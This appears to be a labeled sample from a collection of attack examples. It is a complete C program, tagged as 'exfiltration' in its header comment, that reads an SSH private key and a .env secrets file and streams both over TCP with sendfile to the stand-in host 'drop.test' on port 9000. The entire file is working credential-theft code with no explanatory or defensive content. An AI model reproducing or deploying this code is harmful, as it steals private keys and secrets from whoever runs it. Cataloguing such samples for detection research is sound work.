// class: exfiltration; possible: low medium; needs: data; style: C, sendfile
#include <fcntl.h>
#include <netdb.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
    const char *files[] = { "/data/keys/id_rsa", "/data/.env" };
    struct addrinfo *a, hint = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM };
    if (getaddrinfo("drop.test", "9000", &hint, &a))
        return 1;
    for (int i = 0; i < 2; i++) {
        int f = open(files[i], O_RDONLY), s = socket(AF_INET, SOCK_STREAM, 0);
        if (f < 0 || connect(s, a->ai_addr, a->ai_addrlen))
            return 2;
        while (sendfile(s, f, NULL, 65536) > 0)
            ;
        close(s);
        close(f);
    }
    return 0;
}
